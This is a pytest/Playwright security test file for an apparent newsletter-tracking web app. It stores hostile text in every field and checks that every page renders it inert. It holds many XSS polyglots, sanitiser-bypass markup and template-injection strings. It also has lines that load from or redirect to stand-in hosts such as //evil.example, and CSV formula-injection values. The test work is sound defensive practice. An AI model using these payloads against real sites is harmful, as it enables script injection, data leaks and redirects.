"""Hostile text in everything that is stored, on every page, in a real browser: text stays text.

The pages are those of the application's own route table, so a new one must be entered below.
They are looked at with their policy bypassed: escaping alone has to hold. What no page of harmless
text contains, be it an element or an attribute, must not be there with hostile text either.
"""

import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from urllib.parse import quote, urlsplit

import httpx2
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request

from app.auth.api_keys import Keys
from app.auth.users import Users
from app.auth.workspaces import DEFAULT
from app.demo import agents
from app.settings.load import load
from app.stats.signals import Signals
from app.storage.state_db import open_state
from app.web.views.urls import page_url
from tests.e2e.test_dashboard import browser, login
from tests.support.paths import ROOT
from tests.support.patience import PATIENCE_SECONDS
from tests.support.reader import PERSON
from tests.support.service import LOCAL_RECEIVERS, WITH_HTTP, Service, paths, tracked_urls

__all__ = ["browser"]

FIELDS = (
    "id",
    "name",
    "subject",
    "tag",
    "recipient",
    "label",
    "metadata",
    "followup",
    "segment",
    "key",
    "user",
)
HARMLESS = "Harmless words"
EVIL = "//e.example"
POLYGLOTS = {  # some fields have room for 100 characters only
    "script": "'\" autofocus onfocus=alert(1)></title></style></textarea><script>alert(1)</script>",
    "handler": "\"' autofocus onfocus=alert(1) onload=alert(2) tabindex=1 style=x x='",
    "image": f"<img src={EVIL}/i onerror=alert(1)><svg/onload=alert(2)>",
    "link": "<a href=javascript:alert(3)>x</a><iframe srcdoc='<script>alert(1)</script>'>",
    "dangling": f"\"><img src='{EVIL}/?<form action={EVIL}><button><input name=x>",
    "base": f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>",
    "htmx": "<p hx-get=/logout hx-trigger=load hx-on:load=alert(1)>",
    "partial": '</hx-partial><hx-partial hx-target="#main">x</hx-partial>\\ndata: x',
    "template": "{{7*7}}{%raw%}${7*7}#{7*7}<%=7*7%>[[7*7]]{#x#}{{''.__class__}}",
    "comment": "--><!--<script>alert(1)</script>]]><![CDATA[<x>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "characters": "\u202e\u2066\u2028\ufeff\ufffd<\u212aink>\uff1cscript\uff1ealert(1)\U000e0001",
}
NUMBER = re.compile(r"-?\d*")
FORMULAS = "=+-@\uff1d\uff0b\uff0d\uff20"  # OWASP, "CSV Injection", with their full-width forms
OFTEN = ("script",)  # the others by `make torture`
LONG = [
    pytest.mark.torture,
    pytest.mark.skipif("MAILWAKE_TORTURE" not in os.environ, reason="make torture"),
]
# Of a mail in the click map: what sanitisers have been got past by, and plain attacks.
MARKUP = (
    "<svg><style><img title='</style><img src onerror=alert(1)>'></svg><math><mtext><table><mglyph>"
    "<style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>"
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"
    "<style>@import '//evil.example/c';a{background:url(//evil.example/b)}</style>"
    "<script>alert(1)</script><iframe src=javascript:alert(1)></iframe><base href=//evil.example>"
    "<meta http-equiv=refresh content='0;url=//evil.example'><object data=//evil.example></object>"
    "<p style='behavior:url(x)' onclick=alert(1) hx-get=/logout>x</p><template><script>alert(1)"
    "</script></template><a href='&#106;avascript:alert(1)'>x</a><body onload=alert(1)>"
)
HOOK = """window.ran = [];
    for (const name of ["alert", "confirm", "prompt", "print", "open"])
        window[name] = (...given) => { window.ran.push(name + given.join()) };
    document.addEventListener("htmx:sse:after:message",
        () => { document.documentElement.dataset.told = "" });
    document.addEventListener("securitypolicyviolation",
        (event) => window.ran.push(event.violatedDirective + " " + event.blockedURI));"""
LOOK = """() => {
    const all = [...document.querySelectorAll("*")];
    const addresses = (...names) => all.flatMap((one) => names.map((name) => one[name]))
        .filter((value) => typeof value === "string" && value);
    return {
        ran: window.ran, leads: addresses("href", "action", "formAction"), loads: addresses("src"),
        shapes: [...new Set(all.map((one) =>
            [one.localName, ...[...one.attributes].map((a) => a.name).sort()].join(" ")))],
        shown: [document.documentElement.textContent,
            ...all.flatMap((one) => [...one.attributes].map((a) => a.value))].join("\\n"),
    };
}"""
# Addresses that show a route's page; {id}, {key}, {hook}, {message} of what is stored, {text} as
# it is given.
OWN: Mapping[str, tuple[str, ...]] = {
    "/newsletters/{newsletter_id:path}": (
        "{page}",
        "{page}?show=all&client={text}&os={text}&country={text}&device={text}",
        "{page}?family={text}&step={text}",
        "/newsletters/{text}",
    ),
    "/newsletters/{newsletter_id:path}/recipients": ("{page}/recipients?search={text}",),
    "/newsletters/{newsletter_id:path}/report": ("{page}/report",),
    "/newsletters/{newsletter_id:path}/mail-providers": ("{page}/mail-providers?show=all",),
    "/newsletters/{newsletter_id:path}/experiment": ("{page}/experiment",),
    "/newsletters/{newsletter_id:path}/clickmap": ("{page}/clickmap?show=all",),
    "/newsletters/{newsletter_id:path}/clickmap/mail": ("{page}/clickmap/mail?show=all",),
    "/recipients/{key:int}": ("/recipients/{key}?show=all",),
    "/messages/{message_id}": ("/messages/{message}", "/messages/{text}"),
    "/recipients/{key:int}/erase": ("/recipients/{key}/erase",),
    "/compare": ("/compare?newsletter={id}&newsletter={text}",),
    "/webhooks/{webhook_id}": ("/webhooks/{hook}", "/webhooks/{text}"),
    "/segments": (
        "/segments?newsletter={text}&since={text}&clicked_tag={text}",
        "/segments?newsletter={id}",
    ),
    "/newsletters/{newsletter_id:path}/clicked": ("{page}/clicked?show=all&url={text}",),
    "/clicked": ("/clicked?url={text}", "/clicked?url=x&after={text}"),
    "/search": ("/search?q={text}", "/search?q=example"),
    "/messages": ("/messages?search={text}&show=all", "/messages?after={text}"),
    "/": ("/?period=30d", "/?period={text}", "/?kind={text}&show=all", "/?sort={text}"),
    "/newsletters": (
        "/newsletters?show=all&search={text}&tag={text}",
        "/newsletters?sort={text}",
        "/newsletters?after={text}&page={text}",
    ),
    "/login": ("/login?next={text}&code={text}",),
}
ONCE: Mapping[str, tuple[str, ...]] = {
    "/status": ("/status",),
    "/": ("/?show=all",),
    "/newsletters": ("/newsletters?show=all",),
    "/signals": ("/signals",),
    "/settings": ("/settings",),
    "/suppression-rules": ("/suppression-rules",),
    "/tags": ("/tags?show=all",),
    "/messages": ("/messages?show=all",),
    "/search": ("/search?q=https",),
    "/recipients": ("/recipients?show=all",),
    "/webhooks": ("/webhooks",),
    "/webhooks/followups": ("/webhooks/followups",),
    "/segments": ("/segments",),
    "/compare": ("/compare",),
    "/login": ("/login",),
    "/account": ("/account",),
    "/access": ("/access",),
    "/u/{token:path}": ("/u/{text}",),
}
# Streams, which the pages above are looked at with, files, answers for programs, and pages that
# show nothing of what is stored.
OTHERS = {
    "/live",
    "/home/live",
    "/tags/live",
    "/newsletters/{newsletter_id:path}/live",
    "/webhooks/{webhook_id}/live",
    "/newsletters/{newsletter_id:path}/export",
    "/newsletters/{newsletter_id:path}/outcomes",
    "/segments/export",
    "/recipients/{key:int}/export",
    "/openapi.json",
    "/healthz",
    "/readyz",
    "/healthz/full",
    "/metrics",
    "/docs",
    "/docs/counting",
}


def test_every_page_is_visited(tmp_path: Path) -> None:
    code = (
        "import json; from starlette.routing import Route\n"
        "from app.server.service import Mailwake\n"
        "from app.settings.load import load, with_secrets\n"
        "found = Mailwake(with_secrets(load(public_url='http://x')))\n"
        "print(json.dumps([r.path for r in found.starlette.routes"
        " if isinstance(r, Route) and 'GET' in (r.methods or ())]))"
    )
    env = {**os.environ, "MAILWAKE_DATA_DIR": str(tmp_path / "data")}
    done = subprocess.run(
        [sys.executable, "-c", code], env=env, cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert set(json.loads(done.stdout)) == {*OWN, *ONCE, *OTHERS}


@contextmanager
def hostile_receiver(words: list[str]) -> Iterator[str]:
    """Answers each request with hostile status lines, fields and bodies, or with no HTTP at all."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        with suppress(OSError):
            for number in range(10**9):
                connection, _ = listener.accept()
                with connection, suppress(OSError):
                    connection.settimeout(PATIENCE_SECONDS)
                    connection.recv(65_536)
                    word = words[number // 2 % len(words)]
                    status = "HTTP/1.1 500 " if number % 2 else ""
                    fields = "Content-Type: text/html\r\nConnection: close\r\n"
                    connection.sendall(f"{status}{word}\r\n{fields}\r\n{word}".encode())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join()


class Stored:
    """One text in everything that is stored, with a mark of its own in front for each field."""

    def __init__(self, service: Service, name: str, text: str, receiver: str) -> None:
        self.service, self.name, self.text = service, name, text
        self.of = {field: f"{name}.{field}. {text}" for field in FIELDS}
        attribute = {k: v.replace("&", "&amp;").replace('"', "&quot;") for k, v in self.of.items()}
        html = (
            f'<a href="https://example.com/{quote(text)}" data-track-tag="{attribute["tag"]}"'
            f' data-track-name="{attribute["label"]}">x</a><title>{attribute["name"]}</title>'
            f'<a href="https://example.com/?{attribute["name"]}">{text}</a>{text}{MARKUP}'
        )
        newsletter = {
            "id": self.of["id"],
            "name": self.of["name"],
            "subject": self.of["subject"],
            "tags": [self.of["tag"]],
        }
        self.hook = self.post(
            "/v1/webhooks",
            url=f"{receiver}/{name}?`{{7*7}}&quot;onload=alert(1)",
            newsletters=[self.of["id"]],
            labels=[self.of["label"]],
            tags=[text],
        )["id"]
        every = self.post("/v1/webhooks", url=f"{receiver}/{name}", newsletters=[self.of["id"]])
        self.hook = every["id"]
        self.post(
            "/v1/followups",
            name=self.of["followup"],
            webhook_id=self.hook,
            when="clicked",
            newsletters=[self.of["id"]],
            labels=[self.of["label"]],
            tags=[self.of["tag"]],
        )
        visible = re.sub(r"[\x00-\x1f\x7f]", "", text)[:48].strip()  # what a variant's name may be
        shares = [{"variant": f"{n}{visible}"} for n in "AB"]
        self.post(
            f"/v1/newsletters/{quote(self.of['id'], safe='')}/experiment",
            variants=shares,
            figure="link",
            link=self.of["label"],
            decide_after_messages=100,
        )
        saved = {"newsletter": self.of["id"], "clicked_tag": [text]}
        named = quote(self.of["segment"], safe="")
        assert service.client.put(f"/v1/saved-segments/{named}", json=saved).status_code < 300
        state, settings = open_state(service.data_dir), load(data_dir=service.data_dir)
        if text.isprintable():  # who gets in has a name that can be read
            Keys(state, settings).add(DEFAULT, self.of["key"], ["read"], self.of["user"])
            Users(state).add(self.of["user"], DEFAULT, "viewer")
            Signals(state).add("label", text.strip()[:200])
        Signals(state).add("url", "https://example.com/*")
        state.dispose()
        agent = f"Mozilla/5.0 {text} Thunderbird/140.0 {text}".encode()
        for shown in (agents.CHROME.encode(), agent):
            answer = service.rewrite(
                newsletter,
                html,
                self.of["recipient"],
                sample=True,
                metadata={"note": self.of["metadata"]},
            )
            self.message = answer["message_id"]
            for path in paths(tracked_urls(answer["html"])):
                names = (b"purpose", b"referer", b"x-forwarded-for", b"accept-language")
                fields = [(name, text.encode()) for name in names]
                service.client.get(path, headers=[(b"user-agent", shown), *fields])
        # Those are machines, who follow everything; this is a person, whom the home page lists.
        answer = service.rewrite(newsletter, html, f"{name} {text}".replace("@", "")[:100])
        service.client.get(paths(tracked_urls(answer["html"]))[0], headers=PERSON)

    def post(self, path: str, **body: object) -> dict[str, str]:
        answer = self.service.client.post(path, json=body)
        assert answer.status_code < 300, answer.text
        found: dict[str, str] = answer.json()
        return found

    def addresses(self, visits: Mapping[str, tuple[str, ...]], key: str) -> Iterator[str]:
        given = {
            "page": page_url(self.of["id"]),
            "id": quote(self.of["id"], safe=""),
            "key": key,
            "hook": self.hook,
            "message": self.message,
            "text": quote(self.text.replace("/", "%2F"), safe=""),
        }
        for addresses in visits.values():
            for address in addresses:
                yield address.format(**given)


def squeezed(text: str) -> str:
    """Labels are shown with single spaces, recipients are listed in lower case."""
    return " ".join(text.lower().split())


class Looked:
    """What a browser makes of pages: nothing may run, leave or lead elsewhere."""

    def __init__(self, context: BrowserContext, service: Service) -> None:
        self.service = service
        self.left: list[str] = []
        context.add_init_script(HOOK)
        context.on("request", self.seen)
        self.page = context.new_page()
        self.page.on("dialog", lambda dialog: self.left.append(f"dialog {dialog.message}"))
        self.page.on("pageerror", lambda error: self.left.append(f"error {error}"))
        login(self.page, service)

    def seen(self, request: Request) -> None:
        frame = urlsplit(request.frame.url).path
        # A mail's pictures are shown with it, as in a mail client.
        picture = request.resource_type == "image" and frame.endswith("/clickmap/mail")
        if not request.url.startswith((f"{self.service.url}/", "data:", "about:")) and not picture:
            self.left.append(f"{frame} asked {request.url}")

    def at(self, address: str, expected: Iterable[str]) -> set[str]:
        """The shapes of the elements there, once the live stream has told its part."""
        page = self.page
        answer = page.goto(address)
        assert answer and answer.status < 500, address
        source = answer.text()
        if "sandbox" in answer.headers.get("content-security-policy", ""):
            page.goto("about:blank")  # nothing could run there, so it is looked at elsewhere
            page.set_content(source)
        elif "hx-sse:connect" in source:
            page.locator("html[data-told]").wait_for(state="attached")
        found = page.evaluate(LOOK)
        assert found["ran"] == [] and self.left == [], address
        mail = "/clickmap/mail" in address
        for target in found["leads"] + ([] if mail else found["loads"]):
            here = target.startswith((f"{self.service.url}/", "about:blank"))
            mail_to_one = re.fullmatch(r"mailto:[^?&=,;\s]+", target)
            assert here or target.startswith("data:image/svg") or mail_to_one, (address, target)
        shown = squeezed(found["shown"])
        for text in expected:
            mark = text.partition(" ")[0] + " "  # in an address it would be no space
            if mark in source and not mail:
                in_json = squeezed(json.dumps(text, ensure_ascii=False)[1:-1])
                assert squeezed(text) in shown or in_json in shown, (address, mark)
        return set(found["shapes"])


@pytest.fixture(scope="module")
def filled(
    browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Service, dict[str, Stored], set[str]]]:
    """A service full of hostile text, and the shapes of all elements from before."""
    folder = tmp_path_factory.mktemp("xss") / "data"
    with (
        hostile_receiver(["hello", *POLYGLOTS.values()]) as receiver,
        Service(folder, LOCAL_RECEIVERS, **WITH_HTTP) as service,
    ):
        harmless = Stored(service, "harmless", HARMLESS, receiver)
        service.drained()
        came(service, HARMLESS)
        context = browser.new_context(base_url=service.url)
        looked = Looked(context, service)
        shapes: set[str] = set()
        key = key_of(looked.page, harmless)
        for address in (*harmless.addresses(ONCE, key), *harmless.addresses(OWN, key)):
            shapes |= looked.at(address, harmless.of.values())
        context.close()
        for text in POLYGLOTS.values():
            came(service, text)
        stored = {name: Stored(service, name, text, receiver) for name, text in POLYGLOTS.items()}
        service.drained()
        yield service, stored, shapes


def came(service: Service, text: str) -> None:
    """A session is named after its browser."""
    agent = f"Mozilla/5.0 {text} Firefox/140.0".encode()
    with httpx2.Client(base_url=service.url, trust_env=False, timeout=PATIENCE_SECONDS) as visitor:
        visitor.headers = httpx2.Headers([(b"user-agent", agent)])
        service.login(visitor)


def key_of(page: Page, stored: Stored) -> str:
    page.goto(f"{page_url(stored.of['id'])}/recipients?show=all")
    address = page.locator("tbody a").first.get_attribute("href") or ""
    return urlsplit(address).path.rpartition("/")[2]


@pytest.mark.parametrize(
    "name", [name if name in OFTEN else pytest.param(name, marks=LONG) for name in POLYGLOTS]
)
def test_hostile_text_is_text_on_its_own_pages(
    browser: Browser, filled: tuple[Service, dict[str, Stored], set[str]], name: str
) -> None:
    service, stored, shapes = filled
    context = browser.new_context(base_url=service.url, bypass_csp=True)
    looked = Looked(context, service)
    for address in stored[name].addresses(OWN, key_of(looked.page, stored[name])):
        new = looked.at(address, stored[name].of.values()) - shapes
        assert not new or address.endswith("/clickmap/mail?show=all"), address
    context.close()


def test_hostile_text_is_text_where_it_is_listed(
    browser: Browser, filled: tuple[Service, dict[str, Stored], set[str]]
) -> None:
    service, stored, shapes = filled
    every = [text for one in stored.values() for text in one.of.values()]
    for bypassed in (True, False):
        context = browser.new_context(base_url=service.url, bypass_csp=bypassed)
        looked = Looked(context, service)
        for address in next(iter(stored.values())).addresses(ONCE, ""):
            assert looked.at(address, every) <= shapes, address
        context.close()
    # Receivers choose their answers' words: no log repeats them.
    assert not [text for text in POLYGLOTS.values() if text in service.log.read_text()]


def test_files_say_what_they_are_and_hold_no_formula(
    filled: tuple[Service, dict[str, Stored], set[str]], browser: Browser
) -> None:
    service, *_ = filled
    named = '"\r\n/../=x\u202e.html;'.replace("\r\n", "")
    for formula in FORMULAS:
        html = f'<a href="https://example.com/" data-track-name="{formula}">x</a>'
        # A recipient with an @ is an email address, which no formula is.
        answer = service.rewrite(named, html, f"{formula}1+1" if formula != "@" else "1+1")
        for path in paths(tracked_urls(answer["html"])):
            service.client.get(path, headers=[(b"user-agent", f"{formula}cmd|x".encode())])
        outcome = {
            "id": f"formula {formula}",
            "type": "delivered",
            "message_id": answer["message_id"],
            "occurred_at": "2026-11-28T08:00:00Z",
            **dict.fromkeys(("code", "text"), f"{formula}1"),
        }
        assert service.client.post("/v1/outcomes", json=outcome).status_code == 200
    service.drained()
    context = browser.new_context(base_url=service.url)
    page = context.new_page()
    login(page, service)
    for address in (
        f"{page_url(named)}/export?show=all",
        f"{page_url(named)}/outcomes?show=all",
        f"/segments/export?newsletter={quote(named, safe='')}",
    ):
        for form, kind in (("csv", "text/csv"), ("json", "application/x-ndjson")):
            file = page.request.get(f"{address}&format={form}")
            assert file.status == 200 and file.headers["content-type"].startswith(kind)
            assert file.headers["x-content-type-options"] == "nosniff"
            disposition = file.headers["content-disposition"]
            assert re.fullmatch(r'attachment; filename="[A-Za-z0-9-]+\.\w+"', disposition)
            if form == "csv":
                rows = list(csv.reader(io.StringIO(file.text())))
                assert len(rows) > len(FORMULAS)
                begins = {cell[0] for row in rows for cell in row if not NUMBER.fullmatch(cell)}
                assert "'" in begins and begins.isdisjoint(FORMULAS)
    context.close()
